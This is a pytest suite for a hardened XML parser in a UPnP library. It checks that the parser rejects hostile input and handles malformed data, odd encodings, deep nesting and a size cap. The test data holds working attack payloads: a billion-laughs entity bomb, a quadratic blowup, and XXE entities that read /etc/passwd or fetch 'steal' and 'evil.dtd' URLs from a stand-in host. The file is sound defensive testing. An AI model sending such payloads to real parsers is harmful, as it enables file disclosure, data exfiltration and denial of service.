"""Safe XML parsing: entity bombs, XXE, DTDs, deep nesting, encodings, size cap."""

from __future__ import annotations

import pytest

from aioigd.errors import RemoteProtocolError, ResponseTooLarge
from aioigd.proto.xmlsafe import MAX_DEPTH, child, child_text, local_name, parse_xml

LIMIT = 1 << 20

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<root><device><friendlyName>&lol9;</friendlyName></device></root>
"""

QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><r>'
    + b"&a;" * 10_000
    + b"</r>"
)

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<root><device><friendlyName>&xxe;</friendlyName></device></root>"""

XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE root [<!ENTITY xxe SYSTEM "http://192.0.2.1/steal">]>
<root>&xxe;</root>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE root [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>
<root/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE root SYSTEM "http://192.0.2.1/root.dtd">
<root/>"""

PLAIN_DTD = b"""<?xml version="1.0"?><!DOCTYPE root><root/>"""

INTERNAL_SUBSET = b"""<?xml version="1.0"?><!DOCTYPE root [<!ELEMENT root ANY>]><root/>"""


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(QUADRATIC_BLOWUP, id="quadratic-blowup"),
        pytest.param(XXE_FILE, id="xxe-file"),
        pytest.param(XXE_HTTP, id="xxe-http"),
        pytest.param(XXE_PARAMETER, id="xxe-parameter-entity"),
        pytest.param(EXTERNAL_DTD, id="external-dtd"),
        pytest.param(PLAIN_DTD, id="doctype-only"),
        pytest.param(INTERNAL_SUBSET, id="internal-subset"),
    ],
)
def test_hostile_documents_refused(data: bytes) -> None:
    with pytest.raises(RemoteProtocolError, match="refused"):
        parse_xml(data, limit=LIMIT, what="device description")


def _nested(depth: int) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


def test_100k_deep_nesting_is_a_protocol_error_not_recursion() -> None:
    data = _nested(100_000)
    assert len(data) < LIMIT
    with pytest.raises(RemoteProtocolError, match="nests"):
        parse_xml(data, limit=LIMIT)


def test_depth_limit_boundary() -> None:
    assert parse_xml(_nested(MAX_DEPTH), limit=LIMIT).tag == "a"
    with pytest.raises(RemoteProtocolError, match="nests deeper"):
        parse_xml(_nested(MAX_DEPTH + 1), limit=LIMIT)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"\0\0\0", id="only-nuls"),
        pytest.param(b"<", id="lt"),
        pytest.param(b"<a>", id="unclosed"),
        pytest.param(b"<a></b>", id="mismatched"),
        pytest.param(b"not xml at all", id="text"),
        pytest.param(b"<a/><b/>", id="two-roots"),
        pytest.param(b"<a>&undefined;</a>", id="undefined-entity"),
        pytest.param(b"<a>\x01</a>", id="control-char"),
        pytest.param(b"<a>&#0;</a>", id="nul-char-ref"),
        pytest.param(b"<a x='1' x='2'/>", id="duplicate-attribute"),
        pytest.param(b"<p:a/>", id="unbound-prefix"),
        pytest.param(b"\0<a/>", id="leading-nul"),
        pytest.param(b"<a/>\0garbage", id="garbage-after-nul"),
        pytest.param(b"HTTP/1.1 200 OK\r\n\r\n<a/>", id="http-head"),
        pytest.param(b"<a>\xff\xfe</a>", id="invalid-utf-8"),
        pytest.param(b"<a>caf\xe9</a>", id="latin-1-undeclared"),
        pytest.param(b"<a>\xed\xa0\x80</a>", id="utf-8-surrogate"),
        pytest.param(b"<?xml version='1.0' encoding='nope'?><a/>", id="unknown-encoding"),
    ],
)
def test_invalid_xml_is_a_protocol_error(data: bytes) -> None:
    with pytest.raises(RemoteProtocolError):
        parse_xml(data, limit=LIMIT)


@pytest.mark.parametrize(
    "encoding",
    [
        "utf-16",
        "utf-32",
        "utf-7",
        "base64",
        "rot13",
        "hex",
        "zlib",
        "bz2",
        "uu",
        "quopri",
        "idna",
        "punycode",
        "undefined",
        "mbcs",
        "shift_jis",
        "cp037",
        "unicode_escape",
        "raw_unicode_escape",
        "string_escape",
        "palmos",
    ],
)
@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # unicode_escape's own warning
def test_odd_declared_encodings_never_escape_as_other_errors(encoding: str) -> None:
    data = f'<?xml version="1.0" encoding="{encoding}"?><root>x</root>'.encode()
    try:
        root = parse_xml(data, limit=LIMIT)
    except RemoteProtocolError:
        return
    assert root.tag == "root"


@pytest.mark.parametrize(
    ("data", "text"),
    [
        pytest.param(b"<a>x</a>\0\0\0\0", "x", id="trailing-nuls"),
        pytest.param(b"<a>x</a>\r\n\0 \t\0", "x", id="trailing-mixed"),
        pytest.param(b"\xef\xbb\xbf<a>x</a>", "x", id="utf-8-bom"),
        pytest.param("<a>\u00e9t\u00e9</a>".encode("utf-16"), "\u00e9t\u00e9", id="utf-16-bom"),
        pytest.param(
            b"\xfe\xff" + "<a>\u00e9t\u00e9</a>".encode("utf-16-be"),
            "\u00e9t\u00e9",
            id="utf-16-be-bom",
        ),
        pytest.param(
            '<?xml version="1.0" encoding="UTF-16"?><a>\u00e9</a>'.encode("utf-16-le"),
            "\u00e9",
            id="utf-16-le-declared-no-bom",
        ),
        pytest.param(
            b"<?xml version='1.0' encoding='ISO-8859-1'?><a>caf\xe9</a>",
            "caf\u00e9",
            id="latin-1",
        ),
        pytest.param(b"<a>&lt;&amp;&gt;&quot;&apos;&#65;&#x42;</a>", "<&>\"'AB", id="predefined"),
        pytest.param(b"<a><![CDATA[<b>&amp;</b>]]></a>", "<b>&amp;</b>", id="cdata"),
        pytest.param(b"<!-- c --><?pi x?><a>x</a>", "x", id="comment-and-pi"),
    ],
)
def test_tolerated_documents(data: bytes, text: str) -> None:
    assert parse_xml(data, limit=LIMIT).text == text


def test_size_cap() -> None:
    data = b"<a>" + b"x" * 93 + b"</a>"
    assert len(data) == 100
    assert parse_xml(data, limit=100).text == "x" * 93
    with pytest.raises(ResponseTooLarge, match="101 bytes"):
        parse_xml(data + b" ", limit=100)
    # The cap counts the raw bytes, NUL padding included.
    with pytest.raises(ResponseTooLarge):
        parse_xml(data + b"\0", limit=100)
    assert issubclass(ResponseTooLarge, RemoteProtocolError)


@pytest.mark.parametrize(
    ("tag", "name"),
    [
        ("name", "name"),
        ("{urn:schemas-upnp-org:device-1-0}root", "root"),
        ("p:name", "name"),
        ("{urn:x}p:name", "name"),
        ("{}name", "name"),
        ("", ""),
    ],
)
def test_local_name(tag: str, name: str) -> None:
    assert local_name(tag) == name


def test_child_and_child_text_ignore_namespaces() -> None:
    root = parse_xml(
        b'<r xmlns="urn:a" xmlns:p="urn:p"><!-- c --><p:x> one </p:x><x>two</x><y/><z>\n\t</z></r>',
        limit=LIMIT,
    )
    first = child(root, "x")
    assert first is not None and first.tag == "{urn:p}x"
    assert child_text(root, "x") == "one"
    assert child_text(root, "y") == ""
    assert child_text(root, "y", "d") == "d"  # present but empty: default
    assert child_text(root, "z") == ""
    assert child_text(root, "missing", "dflt") == "dflt"
    assert child(root, "missing") is None
